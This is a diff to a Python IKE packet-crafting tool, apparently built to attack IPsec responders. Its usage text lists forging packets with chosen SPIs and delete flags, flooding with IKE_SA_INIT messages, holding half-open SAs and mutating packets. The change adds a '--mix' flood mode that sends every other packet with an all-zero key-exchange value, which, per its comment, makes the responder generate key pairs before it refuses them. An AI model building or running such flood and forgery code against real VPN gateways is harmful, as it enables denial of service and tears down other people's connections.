@@ -5,7 +5,7 @@ half-open SAs held open at a responder, and mutations of all of these.
 
   ike_craft.py forge   --src IP --dst IP [--sport P] [--dport P] --spi-i HEX --spi-r HEX
                        --exchange N --flags N --msgid N [--delete-ike] [--count N]
-  ike_craft.py flood   --dst IP --count N [--group 19|31] [--random-ports] [--rate R]
+  ike_craft.py flood   --dst IP --count N [--group 19|31] [--random-ports] [--rate R] [--mix]
   ike_craft.py hold    --dst IP --count N [--group 19|31]
   ike_craft.py mutate  --dst IP --count N --spi-i HEX --spi-r HEX --msgid N [--seed S]
 
@@ -140,6 +140,7 @@ def main():
     ap.add_argument("--group", type=int, default=19)
     ap.add_argument("--random-ports", action="store_true")
     ap.add_argument("--rate", type=int, default=0, help="flood: datagrams a second (0: all out)")
+    ap.add_argument("--mix", action="store_true", help="flood: half with an invalid KE value")
     ap.add_argument("--seed", type=int, default=1)
     a = ap.parse_args()
 
@@ -154,8 +155,12 @@ def main():
     if a.action == "flood":
         socks = [sock(a.src) for _ in range(64)] if a.random_ports else [sock(a.src, a.sport)]
         start = time.time()
+        # --mix: every other one with a public value that is no point
+        # (zeros): refused, but only after the responder made a key pair.
+        bad = bytes(len(ke))
         for i in range(a.count):
-            send(socks[i % len(socks)], sa_init(a.group, ke), a.dst, a.dport)
+            send(socks[i % len(socks)], sa_init(a.group, bad if a.mix and i % 2 else ke),
+                 a.dst, a.dport)
             if a.rate and i % 50 == 49:
                 ahead = start + (i + 1) / a.rate - time.time()
                 if ahead > 0:
